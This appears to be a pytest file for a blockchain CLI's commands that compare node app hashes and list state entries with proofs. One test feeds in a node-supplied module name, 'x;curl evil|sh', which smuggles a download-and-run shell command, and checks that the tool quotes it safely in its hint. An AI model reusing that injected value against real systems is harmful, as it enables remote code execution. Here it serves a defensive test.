"""`dchat query roots` and `entries`: from two app hashes that differ to the entry that does."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest

from dchat.cli.compare import Told
from dchat.cli.listing import StatesDiffer, judge_pair
from dchat.kernel import accounts
from dchat.kernel.roots import Root
from dchat.node.stores.roots import Roots
from tests.dchat.cli.nodes import Dchat, Nodes, running
from tests.fakes.memory import ALICE, BOB

HEADER = (
    "header 4 of test-1 (HASH…, TIME), signed by 30 of 40 at least, from the root of trust at"
    " height 1; no other node compared"
)
LISTED = ("query", "entries", "account", "--chain", "chat")
SPACE = "92a76163636f756e74c420"


@pytest.fixture(scope="module")
def nodes(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Nodes]:
    with running(tmp_path_factory.mktemp("nodes")) as started:
        yield started


def test_fingerprints_are_shown_by_module_with_the_signed_app_hash(
    nodes: Nodes, dchat: Dchat
) -> None:
    ran = dchat("query", "roots", "--network", nodes.file, "--chain", "chat", "--height", "3")

    assert (ran.code, nodes.masked(ran.err)) == (
        0,
        f"checked: {HEADER}; fingerprints and differences are the nodes' word\n",
    )
    shown = nodes.masked(ran.out).splitlines()
    rows = shown.index("modules:") + 1
    assert shown[:rows] == [
        "chain_id:        test-1",
        "height:          3",
        "signed_app_hash: HASH",
        "nodes:",
        *_table(
            ["node", "app_hash", "as_signed"], [["http://chat.example.org", "HASH", "yes"]], nodes
        ),
        "modules:",
    ]
    assert shown[rows].split() == ["module", "entries", "fingerprint"]
    assert {tuple(row.split()) for row in shown[rows + 1 :]} >= {
        ("account", "2", "HASH"),
        ("handle", "1", "HASH"),
        ("identity", "1", "HASH"),
        ("key_log", "1", "HASH"),
    }


def _table(head: list[str], rows: list[list[str]], nodes: Nodes) -> list[str]:
    """The lines of a table of nodes, as wide as their real addresses and hashes are."""
    width = len(nodes.urls["chat"])
    return [
        f"  {head[0]:<{width}}  {head[1]:<64}  {head[2]}",
        *(f"  {row[0]}  {row[1]}  {row[2]}" for row in rows),
    ]


def test_a_node_whose_state_is_not_the_signed_one_is_told_with_the_next_command(
    nodes: Nodes, dchat: Dchat
) -> None:
    ran = dchat("query", "roots", "--network", nodes.file, "--rpc", nodes.urls["wrong"])

    _, error, hint = nodes.masked(ran.err).splitlines()
    assert ran.code == 1
    assert error == (
        "dchat: error: http://wrong.example.org has another state after block 3 than was signed:"
        " app hash HASH, header 4 says HASH"
    )
    assert hint == (
        "dchat: hint: compare it with a node that is right: dchat query roots --network FILE"
        " --chain currency --height 3 --rpc http://wrong.example.org --compare URL"
    )


def test_comparing_names_the_modules_that_differ_and_the_next_command(
    nodes: Nodes, dchat: Dchat
) -> None:
    wrong = nodes.urls["wrong"]

    ran = dchat("query", "roots", "--network", nodes.file, "--compare", wrong, "--json")

    said = json.loads(ran.out)
    assert (ran.code, said["height"], said["checked"]["proof"]) == (1, 3, "header")
    assert [node["as_signed"] for node in said["nodes"]] == [True, False]
    assert {row["module"]: row["same"] for row in said["modules"]}.items() >= {
        ("account", False),
        ("chain", True),
        ("params", True),
        ("supply", True),
    }
    assert [row["module"] for row in said["modules"] if not row["same"]] == ["account"]
    assert nodes.masked(ran.err).splitlines() == [
        "dchat: error: the nodes differ after block 3 in account",
        "dchat: hint: find the entries: dchat query entries account --network FILE --chain currency"
        " --height 3 --rpc http://right.example.org --compare http://wrong.example.org",
    ]


def test_a_module_that_a_node_made_up_is_quoted_in_the_next_command() -> None:
    here, there = (
        Told(url, Roots(bytes(32), (Root("x;curl evil|sh", entries, bytes(32)),)))
        for url, entries in (("http://a.example.org", 1), ("http://b.example.org", 2))
    )

    with pytest.raises(StatesDiffer) as refused:
        judge_pair(here, there, 5, "--chain chat")

    assert refused.value.hint == (
        "find the entries: dchat query entries 'x;curl evil|sh' --chain chat --height 5"
        " --rpc http://a.example.org --compare http://b.example.org"
    )


@pytest.mark.parametrize("option", ["--compare", "--rpc"])
def test_an_empty_address_is_refused_and_not_passed_over(
    nodes: Nodes, dchat: Dchat, option: str
) -> None:
    ran = dchat("query", "roots", "--network", nodes.file, option, "")

    assert (ran.code, ran.out) == (1, "")
    assert "no node answered abci_query" in ran.err


def test_comparing_entries_shows_those_that_differ(nodes: Nodes, dchat: Dchat) -> None:
    ran = dchat(
        *("query", "entries", "account", "--network", nodes.file, "--chain", "currency"),
        *("--height", "3", "--rpc", nodes.urls["right"], "--compare", nodes.urls["wrong"]),
        "--json",
    )

    said = json.loads(ran.out)
    assert (ran.code, said["height"]) == (1, 3)
    assert [
        (row["key_means"], row["here_means"][3], row["there_means"][3])
        for row in said["differences"]
    ] == [
        (["account", ALICE.id.hex()], 995_988, 995_987),
        (["account", BOB.id.hex()], 1_000_005, 1_000_006),
    ]
    assert "2 entries differ after block 3" in ran.err


def test_entries_are_compared_before_the_fault_as_well(nodes: Nodes, dchat: Dchat) -> None:
    ran = dchat(
        *("query", "entries", "account", "--network", nodes.file, "--height", "1"),
        *("--compare", nodes.urls["wrong"]),
    )

    assert (ran.code, ran.out.splitlines()[-1]) == (0, "differences: -")


def test_nodes_of_one_state_are_the_same(nodes: Nodes, dchat: Dchat) -> None:
    right = nodes.urls["right"]

    ran = dchat("query", "roots", "--network", nodes.file, "--compare", right, "--json")

    assert ran.code == 0
    assert {row["same"] for row in json.loads(ran.out)["modules"]} == {True}


def test_a_chain_without_newer_headers_is_looked_at_all_the_same(
    nodes: Nodes, dchat: Dchat
) -> None:
    ran = dchat("query", "roots", "--network", nodes.file, "--height", "4", "--trust", "--json")

    said = json.loads(ran.out)
    assert (ran.code, said["height"], said["signed_app_hash"]) == (0, 4, None)
    assert said["checked"] == {"proof": "none", "why": "--trust was given"}


def test_entries_come_with_a_proof_each_and_where_to_go_on(nodes: Nodes, dchat: Dchat) -> None:
    ran = dchat(*LISTED, "--network", nodes.file, "--limit", "1")

    assert (ran.code, ran.out.splitlines()[-1]) == (0, f"next_after: {SPACE}{ALICE.id.hex()}")
    assert nodes.masked(ran.err) == (
        f"checked: presence proved by {HEADER}; that no entry was left out cannot be proved\n"
    )
    assert nodes.masked(ran.out).splitlines()[:-1] == [
        "entries:",
        "  key" + " " * 78 + "value",
        '  ["account", "HASH"]  ["HASH", 0, 2, 996000]',
    ]


def test_a_listing_goes_on_behind_a_key_to_its_end(nodes: Nodes, dchat: Dchat) -> None:
    ran = dchat(*(*LISTED, "--network", nodes.file, "--json"), *("--after", SPACE + ALICE.id.hex()))

    said = json.loads(ran.out)
    assert [row["key"] for row in said["entries"]] == [accounts.key(BOB.id).hex()]
    assert said["entries"][0]["value_means"] == ["", 0, 0, 1_000_000]
    assert said["next_after"] is None


def test_entries_of_an_older_height_are_the_older_ones(nodes: Nodes, dchat: Dchat) -> None:
    words = (*LISTED, "--network", nodes.file, "--height", "1", "--limit", "1", "--json")

    said = json.loads(dchat(*words).out)

    assert said["entries"][0]["value_means"] == [ALICE.public_key.hex(), 0, 1, 998_000]


def test_entries_on_a_nodes_word_say_so(nodes: Nodes, dchat: Dchat) -> None:
    ran = dchat("query", "entries", "supply", "--network", nodes.file, "--trust")

    assert (ran.code, ran.err) == (
        0,
        "checked: nothing, this is the node's word: --trust was given\n",
    )


def test_a_module_without_entries_is_told_and_not_proved(nodes: Nodes, dchat: Dchat) -> None:
    ran = dchat("query", "entries", "nothing", "--network", nodes.file, "--json")

    assert (ran.code, json.loads(ran.out)) == (
        11,
        {
            "found": False,
            "checked": {
                "proof": "none",
                "why": "that there are no entries cannot be proved",
            },
        },
    )
    assert "dchat: error: the node lists no such entries\n" in ran.err


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("account", "--after", "xyz"), "after 'xyz'"),
        (("account", "--after", "91a6737570706c79"), "is no key of module 'account'"),
        (("",), "module ''"),
        (("account", "--limit", "0"), "invalid value"),
    ],
)
def test_a_listing_that_is_none_is_told(
    nodes: Nodes, dchat: Dchat, words: tuple[str, ...], said: str
) -> None:
    ran = dchat("query", "entries", *words, "--network", nodes.file)

    assert (ran.code, ran.out) == (2, "")
    assert said in ran.err
